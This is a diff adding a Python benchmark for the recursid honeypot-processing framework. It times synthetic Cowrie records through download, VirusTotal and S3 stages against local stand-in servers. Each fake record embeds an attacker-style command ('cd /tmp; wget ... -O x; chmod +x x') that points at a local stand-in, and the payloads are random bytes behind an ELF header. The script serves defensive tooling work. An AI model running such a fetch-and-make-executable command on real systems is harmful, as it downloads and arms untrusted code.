@@ -0,0 +1,471 @@
+#!/usr/bin/env python3
+"""
+Runs a whole pipeline on each framework - Fluentd records from ZMQ,
+through URL parsing, downloading and VirusTotal, to S3 - against local
+stand-ins for every outside service, and reports:
+
+ objects/s - records through the pipeline per second, from the first
+     being published until the framework has shut down with nothing left
+     in it
+ hop latencies - p50 and p99 milliseconds between each record's URL being
+     published, downloaded, looked up at VirusTotal and stored in S3, as
+     the stand-ins see them
+ CPU seconds and peak RSS of each module's workers, and of the router.
+     With the thread framework every module shares one RSS, shown for the
+     router, and the router's RSS includes the stand-ins.
+
+Every record has its own URL and payload, so each is downloaded, looked
+up, submitted and stored.  Results are saved as JSON, and --compare
+prints the change from an earlier results file.  Linux only, as usage is
+read from /proc.
+"""
+
+import argparse
+import datetime
+import hashlib
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+import json
+import logging
+import multiprocessing as mp
+import os
+import os.path
+import platform
+import random
+import subprocess
+import tempfile
+import threading
+import time
+import urllib.parse
+
+import msgpack
+import zmq
+
+from recursid.MultiprocessFramework import MultiprocessFramework
+from recursid.MultithreadedFramework import MultithreadedFramework
+
+FRAMEWORKS = {
+        "thread": MultithreadedFramework,
+        "process": MultiprocessFramework,
+        }
+ZMQ_KEY = b"fluent"
+S3_BUCKET = "bench"
+# An x86-64 ELF executable header, so VirusTotal gets every payload
+ELF_HEADER = bytes.fromhex("7f454c4602010100000000000000000002003e00"
+        "01000000") + bytes(40)
+# Points a record's URL passes, in order, and the hops between them
+POINTS = ["published", "downloaded", "virustotal", "stored"]
+HOPS = [
+        ("publish_to_download", "published", "downloaded"),
+        ("download_to_virustotal", "downloaded", "virustotal"),
+        ("download_to_store", "downloaded", "stored"),
+        ("end_to_end", "published", "stored"),
+        ]
+SAMPLE_PERIOD = .2 # seconds
+CLOCK_TICKS = os.sysconf("SC_CLK_TCK")
+REPO_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+
+def payload(num, size):
+    return ELF_HEADER + random.Random(num).randbytes(
+            max(0, size - len(ELF_HEADER)))
+
+class Events:
+    """
+    When each point first saw each record, by record number
+    """
+    def __init__(self):
+        self.lock = threading.Lock()
+        self.times = {point: {} for point in POINTS}
+
+    def record(self, point, num):
+        with self.lock:
+            self.times[point].setdefault(num, time.monotonic())
+
+    def count(self, point):
+        with self.lock:
+            return len(self.times[point])
+
+    def hop_latencies(self):
+        """
+        p50 and p99 milliseconds of each hop, over the records that made it
+        """
+        latencies = {}
+        for hop, start, end in HOPS:
+            starts, ends = self.times[start], self.times[end]
+            values = sorted((ends[num] - starts[num]) * 1000
+                    for num in ends if num in starts)
+            latencies[hop] = {
+                    "count": len(values),
+                    "p50_ms": percentile(values, .5),
+                    "p99_ms": percentile(values, .99),
+                    }
+        return latencies
+
+def percentile(values, fraction):
+    if not values:
+        return None
+    return round(values[round(fraction * (len(values) - 1))], 3)
+
+class StandIn(ThreadingHTTPServer):
+    daemon_threads = True
+
+    def __init__(self, handler, events, payload_size):
+        super().__init__(("127.0.0.1", 0), handler)
+        self.events = events
+        self.payload_size = payload_size
+        # Payload hash -> record number
+        self.hash_nums = {}
+        self.probed = threading.Event()
+
+    @property
+    def url(self):
+        return "http://127.0.0.1:{}".format(self.server_port)
+
+class StandInHandler(BaseHTTPRequestHandler):
+    # Keep connections alive
+    protocol_version = "HTTP/1.1"
+
+    def reply(self, body=b"", headers=()):
+        self.send_response(200)
+        for header in headers:
+            self.send_header(*header)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def read_body(self):
+        return self.rfile.read(int(self.headers.get("Content-Length", 0)))
+
+    def log_message(self, *args):
+        pass
+
+class PayloadHandler(StandInHandler):
+    """
+    Serves /payload/<num> with record num's payload, and /probe/<num>
+    """
+    def do_GET(self):
+        kind, _, num = self.path.strip("/").partition("/")
+        if kind == "probe":
+            self.server.probed.set()
+            self.reply(b"probe")
+            return
+        num = int(num)
+        self.server.events.record("downloaded", num)
+        self.reply(payload(num, self.server.payload_size))
+
+class VirusTotalHandler(StandInHandler):
+    """
+    Answers report lookups with no report, and accepts every scan
+    """
+    def do_GET(self):
+        query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
+        num = self.server.hash_nums.get(query.get("resource", [""])[0])
+        if num is not None:
+            self.server.events.record("virustotal", num)
+        self.reply(json.dumps({"response_code": 0}).encode())
+
+    def do_POST(self):
+        self.read_body()
+        self.reply(json.dumps({"response_code": 1,
+                "verbose_msg": "Scan request successfully queued"}).encode())
+
+class S3Handler(StandInHandler):
+    """
+    An empty bucket, which takes every object put in it
+    """
+    def do_GET(self):
+        self.reply(("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
+                "<ListBucketResult xmlns=\"http://s3.amazonaws.com/doc/"
+                "2006-03-01/\"><Name>{}</Name><Prefix></Prefix><Marker>"
+                "</Marker><MaxKeys>1000</MaxKeys><IsTruncated>false"
+                "</IsTruncated></ListBucketResult>".format(S3_BUCKET)
+                ).encode(), [("Content-Type", "application/xml")])
+
+    def do_PUT(self):
+        self.read_body()
+        num = self.server.hash_nums.get(self.path.rpartition("/")[2])
+        if num is not None:
+            self.server.events.record("stored", num)
+        self.reply(headers=[("ETag", "\"0\"")])
+
+def publish(endpoint, events, payload_server, records, rate):
+    """
+    Publish probes until the pipeline's subscribed, then a record for each
+    payload, at rate records a second, or as fast as possible if rate is 0
+    """
+    context = zmq.Context()
+    publisher = context.socket(zmq.PUB)
+    publisher.setsockopt(zmq.SNDHWM, 0)
+    publisher.bind(endpoint)
+
+    def send(path):
+        record = {"type": "cowrie", "eventid": "cowrie.command.input",
+                "input": "cd /tmp; wget {}{} -O x; chmod +x x".format(
+                    payload_server.url, path)}
+        publisher.send(ZMQ_KEY + b" " + msgpack.packb(
+                [["cowrie", int(time.time()), record]]))
+
+    probe = 0
+    while not payload_server.probed.wait(.05):
+        send("/probe/{}".format(probe))
+        probe += 1
+
+    st_time = time.monotonic()
+    for num in range(records):
+        if rate:
+            time.sleep(max(0, st_time + num / rate - time.monotonic()))
+        events.record("published", num)
+        send("/payload/{}".format(num))
+    publisher.close(linger=-1)
+    context.term()
+
+def read_usage(task_dir):
+    """
+    CPU seconds used by a process or thread, and its process's peak RSS
+    in MB
+    """
+    with open(os.path.join(task_dir, "stat")) as f:
+        stat = f.read()
+    fields = stat[stat.rindex(")") + 2:].split()
+    cpu = (int(fields[11]) + int(fields[12])) / CLOCK_TICKS
+    peak_rss = None
+    with open(os.path.join(task_dir, "status")) as f:
+        for line in f:
+            if line.startswith("VmHWM:"):
+                peak_rss = int(line.split()[1]) / 1024
+    return cpu, peak_rss
+
+class UsageSampler(threading.Thread):
+    """
+    Samples the usage of every module worker, and of the router, until
+    stopped, keeping the last reading of each
+    """
+    def __init__(self, framework, router_tid):
+        super().__init__(daemon=True)
+        self.stop_event = threading.Event()
+        self.tasks = [("router", "router",
+                "/proc/self/task/{}".format(router_tid))]
+        for em in framework.all_modules():
+            for num, worker in enumerate(em["workers"]):
+                proc = worker["process"]
+                if isinstance(proc, threading.Thread):
+                    task_dir = "/proc/self/task/{}".format(proc.native_id)
+                else:
+                    task_dir = "/proc/{}".format(proc.pid)
+                self.tasks.append((em["module"].__name__, num, task_dir))
+        self.readings = {}
+        self.shared_rss = isinstance(framework, MultithreadedFramework)
+
+    def sample(self):
+        for module, worker, task_dir in self.tasks:
+            try:
+                self.readings[module, worker] = read_usage(task_dir)
+            except (OSError, ValueError, IndexError):
+                # It's exited, keep its last reading
+                pass
+
+    def run(self):
+        while not self.stop_event.wait(SAMPLE_PERIOD):
+            self.sample()
+
+    def stop(self):
+        self.stop_event.set()
+        self.join()
+        self.sample()
+
+    def usage(self):
+        modules = {}
+        for (module, _), (cpu, peak_rss) in self.readings.items():
+            usage = modules.setdefault(module, {"workers": 0,
+                    "cpu_seconds": 0, "peak_rss_mb": None})
+            usage["workers"] += 1
+            usage["cpu_seconds"] = round(usage["cpu_seconds"] + cpu, 3)
+            if module == "router" or not self.shared_rss:
+                usage["peak_rss_mb"] = round(max(peak_rss,
+                        usage["peak_rss_mb"] or 0), 1)
+        return modules
+
+def run(framework_name, args):
+    events = Events()
+    payload_server = StandIn(PayloadHandler, events, args.payload_size)
+    vt_server = StandIn(VirusTotalHandler, events, args.payload_size)
+    s3_server = StandIn(S3Handler, events, args.payload_size)
+    hash_nums = {hashlib.sha256(payload(num, args.payload_size)).hexdigest():
+            num for num in range(args.records)}
+    for server in [vt_server, s3_server]:
+        server.hash_nums = hash_nums
+    temp_dir = tempfile.TemporaryDirectory()
+    endpoint = "ipc://{}".format(os.path.join(temp_dir.name, "fluentd"))
+
+    iems = [["FluentdZMQInputEndpointModule", {
+            "fluent_zmq_key": ZMQ_KEY.decode(), "endpoints": [endpoint]}]]
+    rems = [
+            ["URLParserReemitterModule", {}],
+            ["DownloadURLReemitterModule", {
+                "max_download": args.payload_size,
+                "user_agents": ["bench"], "domain_blacklist": [],
+                # Every download is from the one stand-in
+                "domain_overdraw": args.records * 2,
+                "max_domain_concurrent": 16}],
+            ["VirusTotalReemitterModule", {"api_key": "bench",
+                "api_url": vt_server.url + "/vtapi/v2", "api_rate": 0}],
+            ]
+    oems = [
+            ["S3StoreDownloadedObject", {"s3_bucket": S3_BUCKET,
+                "region_name": "us-east-1", "endpoint_url": s3_server.url}],
+            ["LogOutputEndpointModule", {"level": "DEBUG"}],
+            ]
+    for module in rems + oems:
+        module[1]["batch_size"] = args.batch_size
+    framework_kwargs = {"direct_reemit": args.direct_reemit}
+    if args.blob_store:
+        framework_kwargs["blob_store"] = {}
+
+    # Workers are started here, before any stand-in threads, so forked
+    # workers don't inherit them
+    framework = FRAMEWORKS[framework_name](iems, rems, oems, None,
+            **framework_kwargs)
+    for server in [payload_server, vt_server, s3_server]:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+    sampler = UsageSampler(framework, threading.get_native_id())
+    sampler.start()
+    publisher = threading.Thread(target=publish, args=(endpoint, events,
+            payload_server, args.records, args.rate), daemon=True)
+    publisher.start()
+
+    timed_out = threading.Event()
+    def stop_when_done():
+        deadline = time.monotonic() + args.timeout
+        while events.count("stored") < args.records or \
+                events.count("virustotal") < args.records:
+            if time.monotonic() > deadline:
+                timed_out.set()
+                break
+            time.sleep(.01)
+        framework.command_iems_to_die()
+    threading.Thread(target=stop_when_done, daemon=True).start()
+
+    framework.main()
+    end_time = time.monotonic()
+    sampler.stop()
+    for server in [payload_server, vt_server, s3_server]:
+        server.shutdown()
+        server.server_close()
+    temp_dir.cleanup()
+
+    published = events.times["published"]
+    elapsed = end_time - min(published.values()) if published else None
+    return {
+            "records": args.records,
+            "completed": events.count("stored"),
+            "timed_out": timed_out.is_set(),
+            "elapsed_s": round(elapsed, 3) if elapsed else None,
+            "objects_per_s": round(args.records / elapsed, 1)
+                if elapsed else None,
+            "hops": events.hop_latencies(),
+            "modules": sampler.usage(),
+            }
+
+def run_alone(name, args):
+    """
+    run, in a process of its own, as a process can only run one framework
+    """
+    results = mp.Queue()
+    proc = mp.Process(target=lambda: results.put(run(name, args)))
+    proc.start()
+    result = results.get()
+    proc.join()
+    return result
+
+def print_run(name, result):
+    print("{} framework: {} of {} records in {}s, {} objects/s{}".format(
+            name, result["completed"], result["records"],
+            result["elapsed_s"], result["objects_per_s"],
+            " - TIMED OUT" if result["timed_out"] else ""))
+    print("  {:<24} {:>10} {:>10}".format("hop", "p50 ms", "p99 ms"))
+    for hop, latency in result["hops"].items():
+        print("  {:<24} {:>10} {:>10}".format(hop, str(latency["p50_ms"]),
+                str(latency["p99_ms"])))
+    print("  {:<30} {:>7} {:>8} {:>12}".format("module", "workers",
+            "cpu s", "peak rss MB"))
+    for module, usage in result["modules"].items():
+        print("  {:<30} {:>7} {:>8} {:>12}".format(module, usage["workers"],
+                usage["cpu_seconds"], str(usage["peak_rss_mb"])))
+
+def print_comparison(old, new):
+    print("Compared with {} ({})".format(old["started"],
+            old.get("git_commit") or "unknown commit"))
+    for name, result in new["runs"].items():
+        old_result = old["runs"].get(name)
+        if old_result is None:
+            continue
+        rows = [("objects/s", old_result["objects_per_s"],
+                result["objects_per_s"])]
+        rows.extend(("{} p99 ms".format(hop),
+                old_result["hops"].get(hop, {}).get("p99_ms"),
+                latency["p99_ms"])
+                for hop, latency in result["hops"].items())
+        for label, before, after in rows:
+            change = ""
+            if before and after is not None:
+                change = "{:+.1f}%".format((after - before) / before * 100)
+            print("  {:<8} {:<32} {:>10} -> {:>10} {:>8}".format(name, label,
+                    str(before), str(after), change))
+
+def git_commit():
+    try:
+        return subprocess.run(["git", "rev-parse", "--short", "HEAD"],
+                cwd=REPO_DIR, capture_output=True, text=True,
+                check=True).stdout.strip()
+    except (OSError, subprocess.CalledProcessError):
+        return None
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__,
+            formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--framework", choices=list(FRAMEWORKS) + ["both"],
+            default="both")
+    parser.add_argument("--records", type=int, default=500)
+    parser.add_argument("--payload-size", type=int, default=64 * 1024)
+    parser.add_argument("--rate", type=float, default=0,
+            help="Records published a second, 0 for as fast as possible")
+    parser.add_argument("--batch-size", type=int, default=64)
+    parser.add_argument("--direct-reemit", action="store_true")
+    parser.add_argument("--blob-store", action="store_true")
+    parser.add_argument("--timeout", type=float, default=120,
+            help="Seconds to wait for every record to be stored")
+    parser.add_argument("--output", default="bench_pipeline_results.json")
+    parser.add_argument("--compare",
+            help="An earlier results file to compare with")
+    args = parser.parse_args()
+
+    logging.basicConfig(level=logging.WARNING)
+    # The S3 stand-in takes any credentials
+    os.environ.setdefault("AWS_ACCESS_KEY_ID", "bench")
+    os.environ.setdefault("AWS_SECRET_ACCESS_KEY", "bench")
+    os.environ["AWS_EC2_METADATA_DISABLED"] = "true"
+
+    with open(os.path.join(REPO_DIR, "version")) as f:
+        version = f.read().strip()
+    results = {
+            "version": version,
+            "git_commit": git_commit(),
+            "python": platform.python_version(),
+            "started": datetime.datetime.now().isoformat(timespec="seconds"),
+            "settings": vars(args),
+            "runs": {},
+            }
+    names = list(FRAMEWORKS) if args.framework == "both" \
+            else [args.framework]
+    for name in names:
+        results["runs"][name] = run_alone(name, args)
+        print_run(name, results["runs"][name])
+
+    with open(args.output, "w") as f:
+        json.dump(results, f, indent=2)
+    print("Results saved to {}".format(args.output))
+    if args.compare:
+        with open(args.compare) as f:
+            print_comparison(json.load(f), results)
+
+if __name__ == "__main__":
+    main()